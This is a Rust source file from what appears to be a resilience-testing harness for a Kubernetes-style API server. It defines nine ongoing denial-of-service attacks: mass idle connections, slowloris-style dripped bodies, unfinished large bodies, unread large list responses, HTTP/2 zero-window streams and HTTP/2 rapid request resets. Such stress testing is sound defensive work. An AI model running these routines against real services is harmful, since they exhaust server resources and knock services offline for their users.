//! Attacks that are no single request, and go on for a while.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::bombs::{BOMBS, CONFIG_MAPS};
use crate::client::{Client, request};

/// An attack that is no request alone: its name, and what begins it. It goes on until its tasks are dropped.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) begin: fn(SocketAddr, &mut JoinSet<()>),
}

pub(crate) const ATTACKS: [Attack; 9] = [
    Attack { name: "nothing", begin: |_, _| {} },
    Attack { name: "all of these requests, two at a time", begin: in_turn },
    Attack {
        name: "2,000 connections that say nothing",
        begin: |to, tasks| hold(to, tasks, 2_000, Vec::new()),
    },
    Attack {
        name: "10,000 connections that say nothing",
        begin: |to, tasks| hold(to, tasks, 10_000, Vec::new()),
    },
    Attack { name: "300 bodies, a byte a second", begin: drip },
    Attack { name: "150 bodies of 2.9 MB that do not end", begin: unfinished },
    Attack { name: "50 lists of 20 MB that nobody reads", begin: unread },
    Attack { name: "HTTP/2: 50 lists that nobody reads", begin: closed_windows },
    Attack { name: "HTTP/2: requests that are taken back", begin: resets },
];

/// Sends requests again and again over a connection, from one of them on.
pub(crate) fn repeat(
    address: SocketAddr,
    tasks: &mut JoinSet<()>,
    requests: Arc<Vec<Vec<u8>>>,
    first: usize,
) {
    tasks.spawn(async move {
        let mut next = first;
        loop {
            if let Ok(mut client) = Client::connect(address).await {
                while client.send(&requests[next % requests.len()]).await.is_ok() {
                    next += 1;
                }
            }
            next += 1;
            sleep(Duration::from_millis(10)).await;
        }
    });
}

fn in_turn(address: SocketAddr, tasks: &mut JoinSet<()>) {
    let requests: Arc<Vec<_>> = Arc::new(BOMBS.iter().map(|bomb| (bomb.request)()).collect());
    repeat(address, tasks, Arc::clone(&requests), 0);
    repeat(address, tasks, requests, BOMBS.len() / 2);
}

/// Opens connections, sends the same over each, and keeps them.
fn hold(address: SocketAddr, tasks: &mut JoinSet<()>, count: usize, bytes: Vec<u8>) {
    tasks.spawn(async move {
        let mut open = Vec::new();
        for _ in 0..count {
            if let Ok(mut client) = Client::connect(address).await
                && client.write(&bytes).await.is_ok()
            {
                open.push(client);
            }
        }
        std::future::pending().await
    });
}

fn drip(address: SocketAddr, tasks: &mut JoinSet<()>) {
    let head = Arc::new(request(&format!("POST {CONFIG_MAPS}"), "application/json", b"", 2_900_000));
    for _ in 0..300 {
        let head = Arc::clone(&head);
        tasks.spawn(async move {
            let Ok(mut client) = Client::connect(address).await else { return };
            let mut alive = client.write(&head).await.is_ok();
            while alive {
                sleep(Duration::from_secs(1)).await;
                alive = client.write(b" ").await.is_ok();
            }
        });
    }
}

fn unfinished(address: SocketAddr, tasks: &mut JoinSet<()>) {
    let body = vec![b' '; 2_899_999];
    hold(address, tasks, 150, request(&format!("POST {CONFIG_MAPS}"), "application/json", &body, 2_900_000));
}

fn unread(address: SocketAddr, tasks: &mut JoinSet<()>) {
    hold(address, tasks, 50, request("GET /api/v1/namespaces/attack/configmaps", "", b"", 0));
}

/// Asks for large lists over one connection whose windows are closed.
fn closed_windows(address: SocketAddr, tasks: &mut JoinSet<()>) {
    tasks.spawn(async move {
        let Ok(stream) = TcpStream::connect(address).await else { return };
        let mut builder = h2::client::Builder::new();
        let Ok((client, connection)) = builder.initial_window_size(0).handshake::<_, Bytes>(stream).await
        else {
            return;
        };
        let mut asked = JoinSet::new();
        asked.spawn(async { drop(connection.await) });
        let Ok(mut client) = client.ready().await else { return };
        let mut responses = Vec::new();
        for _ in 0..50 {
            if let Ok((response, _)) = client.send_request(get("/api/v1/namespaces/attack/configmaps"), true)
            {
                responses.push(response);
            }
        }
        let _open = responses;
        while asked.join_next().await.is_some() {}
    });
}

/// Sends requests and takes them back before they are answered.
fn resets(address: SocketAddr, tasks: &mut JoinSet<()>) {
    tasks.spawn(async move {
        loop {
            let Ok(stream) = TcpStream::connect(address).await else { continue };
            let Ok((mut client, connection)) = h2::client::handshake(stream).await else { continue };
            let mut beside = JoinSet::new();
            beside.spawn(async { drop(connection.await) });
            while let Ok(mut ready) = client.clone().ready().await {
                let Ok((_, mut stream)) = ready.send_request(get(CONFIG_MAPS), false) else { break };
                stream.send_reset(h2::Reason::CANCEL);
                let _: Result<(), h2::Error> = stream.send_data(Bytes::new(), true);
                client = ready;
                tokio::task::yield_now().await;
            }
        }
    });
}

fn get(path: &str) -> http::Request<()> {
    let mut request = http::Request::new(());
    *request.uri_mut() = format!("http://localhost{path}").parse().unwrap_or_default();
    request
}
